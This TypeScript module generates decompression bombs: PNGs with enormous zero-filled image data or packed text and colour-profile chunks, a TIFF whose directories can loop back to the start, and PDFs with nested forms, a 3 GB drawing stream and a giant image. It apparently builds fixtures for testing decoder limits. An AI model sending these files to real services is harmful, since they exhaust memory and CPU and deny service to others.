import { crc32, constants, deflateRawSync } from 'node:zlib'

/** Files that are small and become huge: what a decoder makes of them is far beyond what they weigh. */

const chunkBytes = 1 << 20

/** A zlib stream of so many zeros, made in no time: one compressed piece is repeated. */
export function zeros(bytes: number): Buffer {
  const piece = (length: number) => deflateRawSync(Buffer.alloc(length), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const whole = piece(chunkBytes)
  const pieces = Array.from({ length: Math.floor(bytes / chunkBytes) }, () => whole)
  const rest = bytes % chunkBytes
  // Adler-32 of zeros: the first sum stays 1, the second counts the bytes.
  const adler = Buffer.alloc(4)
  adler.writeUInt16BE(bytes % 65_521, 0)
  adler.writeUInt16BE(1, 2)
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...pieces, ...(rest > 0 ? [piece(rest)] : []), Buffer.from([3, 0]), adler])
}

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.byteLength, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

export type PngBomb = { widthPx: number; heightPx: number; /** Bits and kind of a pixel. */ pixel: 'grey-8' | 'rgba-16'; /** Chunks before the pixels. */ before?: Buffer[] }

/** A PNG of black pixels, whole and valid. */
export function blackPng({ widthPx, heightPx, pixel, before = [] }: PngBomb): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(widthPx, 0)
  head.writeUInt32BE(heightPx, 4)
  head.set(pixel === 'grey-8' ? [8, 0] : [16, 6], 8)
  const rowBytes = 1 + widthPx * (pixel === 'grey-8' ? 1 : 8)
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), chunk('IHDR', head), ...before, chunk('IDAT', zeros(rowBytes * heightPx)), chunk('IEND', Buffer.alloc(0))])
}

/** A comment or colour profile that unpacks to so many bytes. */
export const packedText = (bytes: number) => chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), zeros(bytes)]))
export const packedProfile = (bytes: number) => chunk('iCCP', Buffer.concat([Buffer.from('icc\0\0', 'latin1'), zeros(bytes)]))

export type TiffBomb = { widthPx: number; heightPx: number; directories: number; /** The last directory leads back to the first. */ circle?: boolean }

/** A TIFF whose directories are all of one black image, compressed once. */
export function tiffOfOneImage({ widthPx, heightPx, directories, circle = false }: TiffBomb): Buffer {
  const pixels = zeros(widthPx * heightPx)
  const entries: [tag: number, type: number, value: number][] = [
    [256, 4, widthPx],
    [257, 4, heightPx],
    [258, 3, 8],
    [259, 3, 8],
    [262, 3, 1],
    [273, 4, 8],
    [277, 3, 1],
    [278, 4, heightPx],
    [279, 4, pixels.length],
  ]
  const directoryBytes = 2 + entries.length * 12 + 4
  const first = 8 + pixels.length + (pixels.length % 2)
  const file = Buffer.alloc(first + directoryBytes * directories)
  file.write('II*\0', 0, 'latin1')
  file.writeUInt32LE(first, 4)
  file.set(pixels, 8)
  for (let number = 0; number < directories; number += 1) {
    const at = first + number * directoryBytes
    file.writeUInt16LE(entries.length, at)
    for (const [index, [tag, type, value]] of entries.entries()) {
      const entry = at + 2 + index * 12
      file.writeUInt16LE(tag, entry)
      file.writeUInt16LE(type, entry + 2)
      file.writeUInt32LE(1, entry + 4)
      if (type === 3) file.writeUInt16LE(value, entry + 8)
      else file.writeUInt32LE(value, entry + 8)
    }
    const last = number === directories - 1
    file.writeUInt32LE(last ? (circle ? first : 0) : at + directoryBytes, at + 2 + entries.length * 12)
  }
  return file
}

/** A PDF of the given objects, numbered from 1; the first is the catalogue. */
export function pdfOf(objects: (string | { dictionary: string; stream: Uint8Array })[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  let length = parts[0]?.length ?? 0
  const add = (part: Buffer) => {
    parts.push(part)
    length += part.length
  }
  for (const [index, object] of objects.entries()) {
    places.push(length)
    add(Buffer.from(`${index + 1} 0 obj\n`))
    if (typeof object === 'string') add(Buffer.from(object))
    else {
      add(Buffer.from(`<< ${object.dictionary} /Length ${object.stream.byteLength} >>\nstream\n`))
      add(Buffer.from(object.stream))
      add(Buffer.from('\nendstream'))
    }
    add(Buffer.from('\nendobj\n'))
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const start = length
  add(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`))
  return Buffer.concat(parts)
}

const onePage = (box: string, resources: string) => ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << ${resources} >> >>`]
const drawing = (text: string) => ({ dictionary: '', stream: Buffer.from(text) })

export const pdfBombs = {
  /** Five by five metres. */
  hugePage: () => pdfOf([...onePage('0 0 14400 14400', ''), drawing('0 0 100 100 re f')]),
  /** Ten to the power of ten drawings. */
  nestedForms: () => {
    const calls = '/A Do '.repeat(10)
    const levels = Array.from({ length: 10 }, (_, level) => ({
      dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /A ${level === 9 ? 4 : level + 6} 0 R >> >>`,
      stream: Buffer.from(level === 9 ? '0 0 1 1 re f' : calls),
    }))
    return pdfOf([...onePage('0 0 595 842', '/XObject << /A 5 0 R >>'), drawing(calls), ...levels])
  },
  /** Three gigabytes of drawing. */
  packedDrawing: () => pdfOf([...onePage('0 0 595 842', ''), { dictionary: '/Filter /FlateDecode', stream: zeros(3_000_000_000) }]),
  /** 20,000 by 20,000 pixels. */
  hugePicture: () =>
    pdfOf([...onePage('0 0 595 842', '/XObject << /A 5 0 R >>'), drawing('595 0 0 842 0 0 cm /A Do'), { dictionary: '/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode', stream: zeros(1_200_000_000) }]),
}
